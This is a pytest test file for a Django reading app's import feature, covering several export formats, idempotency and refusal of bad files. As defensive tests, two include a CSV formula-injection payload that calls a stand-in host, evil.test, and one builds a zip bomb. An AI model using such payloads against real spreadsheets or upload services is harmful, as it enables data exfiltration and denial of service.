"""Imports (imports/): each format end to end, from the upload on Sources → Import to the
stories, highlights, tags and states in the reader's library; the report; idempotency;
bad files refused with nothing stored."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from annotations.models import Anchoring, Annotation, Reply, Visibility
from articles.models import Story
from imports.models import ImportJob
from reading.models import ReadingState
from tests.importsite import fixture, omnivore_zip, serve

pytestmark = pytest.mark.django_db


@pytest.fixture
def server(local_server, settings):
    settings.FETCH_ALLOWED_HOSTS = [f"127.0.0.1:{local_server.port}"]
    settings.FETCH_TIMEOUT = 5
    serve(local_server)
    return local_server


def upload(client, name: str, data: bytes, **extra):
    return client.post(
        reverse("import"), {"file": SimpleUploadedFile(name, data), **extra}, follow=True
    )


def job_of(response) -> ImportJob:
    return ImportJob.objects.get(pk=response.resolver_match.kwargs["job_id"])


def state(user, story) -> ReadingState:
    return ReadingState.objects.get(user=user, story=story)


def tags(user, story) -> list[str]:
    return sorted(state(user, story).tags.values_list("name", flat=True))


def on_the_page(client, story, *, marks=(), saved=None, read=None) -> str:
    """The story's reading view shows the highlights (drawn marks) and states."""
    content = client.get(story.get_absolute_url()).content.decode()
    for annotation in marks:
        assert f'id="hl-{annotation.pk}"' in content
    if saved is not None:
        assert ('class="state-badge state-saved"' in content) == saved
    return content


def stored() -> tuple[int, int, int]:
    return Story.objects.count(), Annotation.objects.count(), ReadingState.objects.count()


# --- The page ---------------------------------------------------------------------------


def test_the_import_page_needs_a_signed_in_reader(client):
    response = client.get(reverse("import"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_the_sources_page_links_to_the_import_page(signed_in):
    content = signed_in.get(reverse("sources")).content.decode()
    assert f'href="{reverse("import")}"' in content


def test_another_readers_import_is_not_found(client, signed_in, server, bob):
    job = job_of(upload(signed_in, "pocket.csv", fixture("pocket.csv", server)))
    client.force_login(bob)
    assert client.get(job.get_absolute_url()).status_code == 404


def test_a_running_import_shows_its_progress_and_is_polled_by_htmx(signed_in, user, server):
    from imports.tasks import create_job, run_job

    job = create_job(user, "pocket.csv", fixture("pocket.csv", server))
    page = signed_in.get(job.get_absolute_url()).content.decode()
    assert f'hx-get="{job.get_absolute_url()}" hx-trigger="every 1s"' in page
    assert '<progress id="import-bar" max="3" value="0"' in page
    assert "0 of 3 items (0%)" in page
    run_job(job)
    partial = signed_in.get(job.get_absolute_url(), HTTP_HX_REQUEST="true").content.decode()
    assert partial.lstrip().startswith('<section class="panel import-progress"')
    assert "hx-get" not in partial  # done: the polling stops
    assert "3 of 3 items (100%)" in partial
    assert 'data-count="stories">3<' in partial


# --- Pocket -----------------------------------------------------------------------------


def test_a_pocket_csv_brings_stories_states_and_tags_and_keeps_a_page_that_is_gone(
    signed_in, user, server
):
    response = upload(signed_in, "pocket.csv", fixture("pocket.csv", server))
    job = job_of(response)
    assert job.format == "pocket-csv"
    assert (job.status, job.total, job.done) == ("done", 3, 3)
    assert (job.stories, job.highlights, job.tags) == (3, 0, 3)
    content = response.content.decode()
    assert 'data-count="stories">3<' in content

    rust = Story.objects.get(title="Rust in the kernel")
    assert rust.owner is None  # fetched by the server: a shared story
    assert rust.url == server.url("/rust")  # utm_ removed
    assert state(user, rust).saved_at.timestamp() == 1700000000
    assert state(user, rust).read_at is None
    assert tags(user, rust) == ["linux", "rust"]
    page = signed_in.get(rust.get_absolute_url()).content.decode()
    assert 'Your tags: <span class="tag">linux</span>, <span class="tag">rust</span>' in page

    storage = Story.objects.get(title="The storage rewrite")
    assert state(user, storage).read_at.timestamp() == 1700000100
    assert state(user, storage).saved_at is None

    gone = Story.objects.get(url=server.url("/gone"))
    assert gone.owner == user  # made from the file: the reader's copy
    assert gone.title == "A page that is gone"
    assert "404" in gone.current_revision.page_error
    page = signed_in.get(gone.get_absolute_url()).content.decode()
    assert "Made from what the imported file holds" in page
    assert [entry["title"] for entry in job.notes] == ["A page that is gone"]
    assert "404" in job.notes[0]["reason"]
    assert "A page that is gone" in content


def test_importing_the_same_file_twice_adds_nothing_and_fetches_nothing(signed_in, user, server):
    data = fixture("pocket.csv", server)
    upload(signed_in, "pocket.csv", data)
    before = stored()
    fetched = len(server.requests)
    again = job_of(upload(signed_in, "pocket.csv", data))
    assert (again.stories, again.highlights, again.tags, again.unchanged) == (0, 0, 0, 3)
    assert stored() == before
    assert len(server.requests) == fetched


def test_a_pocket_html_export_brings_unread_and_archived_stories(signed_in, user, server):
    job = job_of(upload(signed_in, "ril_export.html", fixture("ril_export.html", server)))
    assert job.format == "pocket-html"
    assert (job.stories, job.tags) == (2, 2)
    rust = Story.objects.get(title="Rust in the kernel")
    assert state(user, rust).saved_at.timestamp() == 1600000000
    assert tags(user, rust) == ["linux", "rust"]
    storage = Story.objects.get(title="The storage rewrite")
    assert state(user, storage).read_at.timestamp() == 1500000000
    on_the_page(signed_in, rust, saved=True)
    on_the_page(signed_in, storage, saved=False)


# --- Instapaper --------------------------------------------------------------------------


def test_an_instapaper_selection_becomes_a_highlight_and_a_folder_a_tag(signed_in, user, server):
    job = job_of(upload(signed_in, "instapaper.csv", fixture("instapaper.csv", server)))
    assert job.format == "instapaper"
    assert (job.stories, job.highlights, job.tags) == (3, 1, 1)
    rust = Story.objects.get(title="Rust in the kernel")
    [highlight] = Annotation.objects.filter(story=rust)
    assert highlight.exact == (
        "A rewritten storage layer keeps writes ordered even when the disk fills up."
    )
    assert highlight.anchor_state == Anchoring.ANCHORED
    assert highlight.visibility == Visibility.PRIVATE
    assert highlight.author == user
    assert highlight.created.timestamp() == 1700000000
    page = signed_in.get(rust.get_absolute_url()).content.decode()
    assert f'id="hl-{highlight.pk}"' in page
    storage = Story.objects.get(title="The storage rewrite")
    assert state(user, storage).read_at is not None
    policy = Story.objects.get(title="Support policy")
    assert tags(user, policy) == ["work-reading"]
    assert state(user, policy).saved_at is not None


# --- Omnivore ----------------------------------------------------------------------------


def test_an_omnivore_zip_uses_its_content_labels_progress_and_highlights(signed_in, user, server):
    job = job_of(upload(signed_in, "omnivore-export.zip", omnivore_zip(server)))
    assert job.format == "omnivore"
    assert server.requests_to("/storage") == []  # its content was in the file
    storage = Story.objects.get(title="The storage rewrite")
    assert storage.owner == user
    assert storage.current_revision.origin == "import"
    assert "most requested fix" in storage.current_revision.body_text
    reading = state(user, storage)
    assert reading.read_at is not None and reading.saved_at is None
    assert reading.progress == 1.0
    assert tags(user, storage) == ["databases", "long-read"]

    notes = {a.original_exact: a for a in Annotation.objects.filter(story=storage)}
    kept = notes["A rewritten storage layer keeps writes ordered even when the disk fills up"]
    assert kept.anchor_state == Anchoring.ANCHORED
    assert kept.comment == "This is the part that matters for us."
    assert kept.tag_names() == ["databases", "durability"]
    assert notes["Older platforms lose support"].anchor_state == Anchoring.ANCHORED
    lost = notes["A sentence that the article never had."]
    assert lost.anchor_state == Anchoring.ORPHANED
    assert lost.comment == "Kept anyway."
    page = on_the_page(signed_in, storage, marks=[kept], saved=False)
    assert "A sentence that the article never had." in page  # listed as detached

    policy = Story.objects.get(title="Support policy")  # no content: fetched
    assert policy.owner is None
    assert state(user, policy).progress == pytest.approx(0.4)
    assert (job.stories, job.highlights, job.tags) == (2, 3, 2)  # tags on stories
    assert any("is not in the text: kept detached" in entry["reason"] for entry in job.notes)


# --- Wallabag ----------------------------------------------------------------------------


def test_a_wallabag_export_keeps_content_tags_stars_and_annotations(signed_in, user, server):
    job = job_of(upload(signed_in, "wallabag.json", fixture("wallabag.json", server)))
    assert job.format == "wallabag"
    rust = Story.objects.get(url=server.url("/rust"), owner=user)
    assert "Drivers in C remain welcome" in rust.current_revision.body_text
    assert tags(user, rust) == ["kernel", "linux"]
    assert state(user, rust).saved_at is not None
    [note] = Annotation.objects.filter(story=rust)
    assert note.exact == "Memory safety bugs account for most of the security fixes"
    assert note.comment == "The real reason."
    assert note.anchor_state == Anchoring.ANCHORED
    on_the_page(signed_in, rust, marks=[note], saved=True)
    # No content in the file for this one: its page is fetched.
    storage = Story.objects.get(title="The storage rewrite")
    assert storage.owner is None
    assert state(user, storage).read_at is not None
    assert (job.stories, job.highlights, job.tags) == (2, 1, 2)


# --- Hypothesis ---------------------------------------------------------------------------


def test_hypothesis_annotations_land_private_with_dates_tags_and_comments(signed_in, user, server):
    job = job_of(upload(signed_in, "hypothesis.json", fixture("hypothesis.json", server)))
    assert job.format == "hypothesis"
    storage = Story.objects.get(url=server.url("/storage"), owner=None)
    [note] = Annotation.objects.filter(story=storage)
    assert note.exact == "keeps writes ordered even when the disk fills up"
    assert note.anchor_state == Anchoring.ANCHORED
    assert note.visibility == Visibility.PRIVATE  # public on Hypothesis; private unless chosen
    assert note.comment == "Worth **remembering**."
    assert "<strong>remembering</strong>" in note.comment_html
    assert note.tag_names() == ["storage", "to-read-again"]
    assert note.created.isoformat().startswith("2024-06-01T10:00:00")
    assert note.via == "https://hypothes.is/a/Zx3bKc3sEe-AaBcDeFgHiJ"
    on_the_page(signed_in, storage, marks=[note], saved=True)

    gone = Story.objects.get(url=server.url("/gone"))
    assert gone.owner == user  # made from the quotes
    assert "a passage from a page that no longer exists" in gone.current_revision.body_text
    [kept] = Annotation.objects.filter(story=gone)
    assert kept.anchor_state == Anchoring.ANCHORED
    assert kept.comment == "The page went away."
    assert (job.stories, job.highlights) == (2, 2)


def test_hypothesis_visibility_is_kept_when_the_reader_chooses(signed_in, user, server):
    upload(signed_in, "hypothesis.json", fixture("hypothesis.json", server), keep_visibility="on")
    public = Annotation.objects.get(via="https://hypothes.is/a/Zx3bKc3sEe-AaBcDeFgHiJ")
    assert public.visibility == Visibility.PUBLIC
    private = Annotation.objects.get(via="https://hypothes.is/a/Qq1aBc3sEe-ZzYyXxWwVvU")
    assert private.visibility == Visibility.PRIVATE


# --- Our own JSON-LD ---------------------------------------------------------------------


def test_our_own_json_ld_export_comes_back_into_another_library(
    client, signed_in, user, server, bob
):
    upload(signed_in, "instapaper.csv", fixture("instapaper.csv", server))
    original = Annotation.objects.get(author=user)
    Reply.post(original, user, "My own reply.")
    export = signed_in.get(reverse("annotation_export") + "?format=jsonld").content
    client.force_login(bob)
    job = job_of(upload(client, "newsreader.jsonld", export))
    assert job.format == "jsonld"
    copy = Annotation.objects.get(author=bob)
    assert copy.exact == original.exact
    assert copy.story_id == original.story_id  # the same shared story, not fetched again
    assert copy.via.endswith(f"/api/annotations/{original.pk}/")
    assert copy.created == original.created
    # Replies by someone else are not written under bob's name.
    assert list(copy.replies.all()) == []
    again = job_of(upload(client, "newsreader.jsonld", export))
    assert again.highlights == 0
    assert Annotation.objects.filter(author=bob).count() == 1


# --- Bad files ----------------------------------------------------------------------------


def refused(response, message: str) -> None:
    assert response.status_code in {400, 413}
    assert message in response.content.decode().replace("&#x27;", "'")
    assert ImportJob.objects.count() == 0
    assert stored() == (0, 0, 0)


def test_a_file_in_no_format_we_know_is_refused(signed_in):
    response = upload(signed_in, "notes.csv", b"name,email\nAda,ada@example.com\n")
    refused(response, "Not a file we can import")
    response = upload(signed_in, "data.json", b'{"hello": "world"}')
    refused(response, "not an export we know")


def test_a_truncated_zip_is_refused(signed_in, server):
    data = omnivore_zip(server)
    refused(upload(signed_in, "omnivore.zip", data[: len(data) // 2]), "cut short")


def test_a_zip_bomb_is_refused_before_it_is_inflated(signed_in, settings):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata_0_to_1.json", "[]")
        archive.writestr("content/bomb.html", b"\0" * (50 * 1024 * 1024))
    data = buffer.getvalue()
    assert len(data) < 100_000
    refused(upload(signed_in, "omnivore.zip", data), "zip bomb")
    settings.IMPORT_MAX_UNCOMPRESSED = 10 * 1024 * 1024
    refused(upload(signed_in, "omnivore.zip", data), "would unpack to 50 MB")


def test_a_file_over_the_size_limit_is_refused_by_its_size(signed_in, settings):
    settings.IMPORT_MAX_BYTES = 1024 * 1024
    response = upload(signed_in, "pocket.csv", b"title,url,time_added,tags,status\n" * 40_000)
    refused(response, "at most 1 MB")


def test_a_truncated_json_file_is_refused(signed_in, server):
    data = fixture("hypothesis.json", server)
    refused(upload(signed_in, "hypothesis.json", data[:-40]), "damaged or cut short")


def test_a_truncated_csv_row_is_refused_and_nothing_is_stored(signed_in, server):
    data = fixture("pocket.csv", server) + b"Half a row,http://x.test/"
    refused(upload(signed_in, "pocket.csv", data), "columns instead of 5")


def test_a_csv_in_windows_1252_is_read_in_its_encoding(signed_in, user, server):
    text = (
        "URL,Title,Selection,Folder,Timestamp\n"
        f"{server.url('/policy')},Politique de support – été,,Lectures à faire,1700000200\n"
    )
    job = job_of(upload(signed_in, "instapaper.csv", text.encode("cp1252")))
    assert job.status == "done"
    assert job.report == []
    policy = Story.objects.get(url=server.url("/policy"))
    assert tags(user, policy) == ["lectures-à-faire"]


def test_a_formula_in_a_csv_cell_is_kept_as_text_and_never_evaluated(signed_in, user, server):
    formula = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    text = (
        "title,url,time_added,tags,status\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}",{server.url("/gone-formula")},1700000000,,unread\n'
    )
    job = job_of(upload(signed_in, "pocket.csv", text.encode()))
    story = Story.objects.get(owner=user)
    assert story.title == formula
    page = signed_in.get(story.get_absolute_url()).content.decode()
    assert "=HYPERLINK(&quot;http://evil.test/?&quot;&amp;A1,&quot;Click&quot;)" in page
    assert job.stories == 1


# --- The command -------------------------------------------------------------------------


def test_the_command_imports_a_file_for_a_reader_and_reports(tmp_path, user, server, capsys):
    from django.core.management import call_command

    path = tmp_path / "pocket.csv"
    path.write_bytes(fixture("pocket.csv", server))
    call_command("import_reading", str(path), "--user", "reader")
    out = capsys.readouterr().out
    assert "Pocket (CSV), 3 items." in out
    assert "3 stories, 0 highlights, 3 tags imported; 0 already here; 0 failed." in out
    assert "note: A page that is gone:" in out
    assert ReadingState.objects.filter(user=user).count() == 3
    call_command("import_reading", str(path), "--user", "reader")
    assert "0 stories, 0 highlights, 0 tags imported; 3 already here" in capsys.readouterr().out


def test_the_command_refuses_a_1_gb_file_by_its_size_without_reading_it(tmp_path, user):
    from django.core.management import call_command

    path = tmp_path / "huge.csv"
    with path.open("wb") as handle:
        handle.truncate(1024**3)  # sparse: nothing is written, nothing need be read
    with pytest.raises(SystemExit) as exit_info:
        call_command("import_reading", str(path), "--user", "reader")
    assert exit_info.value.code == 1
    assert ImportJob.objects.count() == 0


def test_the_command_draws_a_progress_bar_on_a_terminal(tmp_path, user, server, monkeypatch):
    from django.core.management import call_command

    from articles.management.commands import ingest

    drawn: list[str] = []
    monkeypatch.setattr(
        ingest.Progress, "show", lambda self, done, name: drawn.append(f"{done} {name}")
    )
    monkeypatch.setattr(ingest.Progress, "__init__", _enabled_progress)
    path = tmp_path / "pocket.csv"
    path.write_bytes(fixture("pocket.csv", server))
    call_command("import_reading", str(path), "--user", "reader")
    assert drawn == ["1 The storage rewrite", "2 A page that is gone"]


def _enabled_progress(self, stream, total):
    self.stream, self.total, self.enabled, self._drawn = stream, total, True, False


def test_staff_see_imports_in_the_admin_without_their_work_list(client, user, server):
    from django.contrib.auth.models import User

    from imports.tasks import create_job

    job = create_job(user, "pocket.csv", fixture("pocket.csv", server))
    client.force_login(User.objects.create_superuser("admin", password="pw"))
    listing = client.get(reverse("admin:imports_importjob_changelist")).content.decode()
    assert "pocket.csv" in listing
    page = client.get(reverse("admin:imports_importjob_change", args=[job.pk]))
    assert page.status_code == 200
    assert "news.test" not in page.content.decode() and "/rust" not in page.content.decode()
    assert client.get(reverse("admin:imports_importjob_add")).status_code == 403


# --- Export, the other way ------------------------------------------------------------------


def test_the_library_exports_as_pocket_csv_with_formulas_defused_and_imports_back(
    client, signed_in, user, server, bob
):
    import csv
    import io

    formula = '=HYPERLINK("http://evil.test/","Click")'
    text = (
        "title,url,time_added,tags,status\n"
        f'"{formula.replace(chr(34), chr(34) * 2)}",{server.url("/gone-formula")},1700000000,@work|rust,unread\n'
        f"The storage rewrite,{server.url('/storage')},1700000100,,archive\n"
    )
    upload(signed_in, "pocket.csv", text.encode())
    response = signed_in.get(reverse("export_library"))
    assert response["Content-Disposition"] == 'attachment; filename="newsreader-library.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0] == ["title", "url", "time_added", "tags", "status"]
    by_title = {row[0]: row for row in rows[1:]}
    assert by_title["'" + formula][2:] == ["1700000000", "rust|work", "unread"]
    assert by_title["The storage rewrite"][2:] == ["1700000100", "", "archive"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    # Another reader imports the export: the same titles, states and tags.
    client.force_login(bob)
    job = job_of(upload(client, "newsreader-library.csv", response.content))
    assert job.format == "pocket-csv" and job.failures == []
    copy = Story.objects.get(owner=bob)
    assert copy.title == formula
    assert tags(bob, copy) == ["rust", "work"]


def test_a_hypothesis_page_note_and_an_overlong_note_are_kept_not_refused(signed_in, user, server):
    import json

    rows = [
        {
            "id": "pagenote1",
            "uri": server.url("/storage"),
            "text": "A note on the whole page.",
            "tags": [f"t{n}" for n in range(30)],
            "created": "2024-06-03T10:00:00+00:00",
            "target": [{"source": server.url("/storage")}],
            "document": {"title": ["The storage rewrite"]},
        },
        {
            "id": "long1",
            "uri": server.url("/storage"),
            "text": "x" * 20_000,
            "target": [
                {
                    "source": server.url("/storage"),
                    "selector": [{"type": "TextQuoteSelector", "exact": "lower latency"}],
                }
            ],
        },
    ]
    job = job_of(upload(signed_in, "hypothesis.json", json.dumps({"annotations": rows}).encode()))
    assert job.format == "hypothesis" and job.highlights == 2
    note = Annotation.objects.get(via="https://hypothes.is/a/pagenote1")
    assert note.anchor_state == Anchoring.ORPHANED
    assert note.comment == "A note on the whole page."
    assert len(note.tag_names()) == 20
    long = Annotation.objects.get(via="https://hypothes.is/a/long1")
    assert long.exact == "lower latency" and len(long.comment) == 10_000
    assert any("whole page" in entry["reason"] for entry in job.notes)


def test_a_long_import_goes_on_in_new_tasks_each_one_short(signed_in, user, server, settings):
    from django.tasks.signals import task_finished

    settings.IMPORT_TASK_SECONDS = 0  # every task stops after one item
    runs: list[str] = []

    def finished(sender, task_result, **kwargs):
        if task_result.task.name == "run_import":
            runs.append(task_result.return_value)

    task_finished.connect(finished, weak=False)
    try:
        job = job_of(upload(signed_in, "pocket.csv", fixture("pocket.csv", server)))
    finally:
        task_finished.disconnect(finished)
    assert (job.status, job.done, job.stories) == ("done", 3, 3)
    assert sorted(runs) == ["1 of 3, going on", "2 of 3, going on", "done"]


def test_imported_story_tags_are_search_filters(signed_in, user, server):
    upload(signed_in, "pocket.csv", fixture("pocket.csv", server))
    content = signed_in.get(reverse("search"), {"tag": "rust"}).content.decode()
    assert 'value="rust"' in content  # one of my tags, to choose
    assert "Rust in the kernel" in content
    assert "The storage rewrite" not in content
    later = signed_in.get(reverse("search"), {"tag": "later"}).content.decode()
    assert "A page that is gone" in later and "Rust in the kernel" not in later
